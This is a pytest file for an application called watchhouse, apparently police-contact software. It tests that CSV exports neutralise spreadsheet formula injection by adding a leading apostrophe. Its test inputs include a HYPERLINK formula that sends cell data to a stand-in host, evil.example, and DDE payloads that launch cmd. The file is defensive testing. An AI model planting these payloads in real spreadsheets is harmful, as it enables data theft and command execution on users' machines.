"""Every CSV watchhouse writes is safe to open in a spreadsheet: text that would start a
formula is written as text (a leading apostrophe); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from watchhouse.analytics.model import Cut, MeasureValue, Period
from watchhouse.cli import measures as cli_measures
from watchhouse.domain.access import AccessQuery
from watchhouse.domain.records import NewContact
from watchhouse.domain.roles import Role
from watchhouse.domain.values import Channel
from watchhouse.io.spreadsheet import safe_cell
from watchhouse.services import contacts, imports
from watchhouse.services.access import export_access_log_csv

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-2.5", "+447700900123", "-1e3", "42", 42, -3.5, None, "a=b"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_access_log_export_neutralises_a_formula_given_as_justification(ctx, actors) -> None:
    handler = actors[Role.CALL_HANDLER]
    taken = contacts.take_contact(
        ctx,
        actor=handler,
        new=NewContact(channel=Channel.NON_EMERGENCY_101, summary="Noise", caller_given_name="Jo"),
    )
    contacts.get_contact(ctx, actor=handler, contact_id=taken.contact_id, justification=HYPERLINK)
    exported = export_access_log_csv(
        ctx,
        actor=actors[Role.AUDITOR],
        query=AccessQuery(username="call_handler"),
        justification="@audit",
        recipient="-the DPO",
    )
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert "'" + HYPERLINK in [r["justification"] for r in rows]
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


def test_import_reject_report_neutralises_the_refused_value(
    ctx, actors, samples, write_csv, read_report
) -> None:
    path = write_csv(
        "2024-01-avon-and-somerset-street.csv",
        samples.street_header,
        [samples.street("a1", month="=1+2"), samples.street("a2", longitude="@SUM(A1)")],
    )
    result = imports.import_police_uk(ctx, actor=actors[Role.ADMINISTRATOR], path=path)
    values = [r["value"] for r in read_report(result.report)]
    assert values == ["'=1+2", "'@SUM(A1)"]


def test_measures_csv_neutralises_a_formula_in_a_cut_value(capsys) -> None:
    value = MeasureValue(
        measure="contact.demand",
        period=Period.MONTH,
        period_start=date(2024, 5, 1),
        period_label="2024-05",
        cut=Cut.NEIGHBOURHOOD,
        cut_value="=cmd|' /C calc'!A0",
        value=-3.0,
        numerator=None,
        denominator=None,
    )
    cli_measures._print([value], cli_measures.OutputFormat.CSV)
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["cut_value"] == "'=cmd|' /C calc'!A0"
    assert row["value"] == "-3.0"
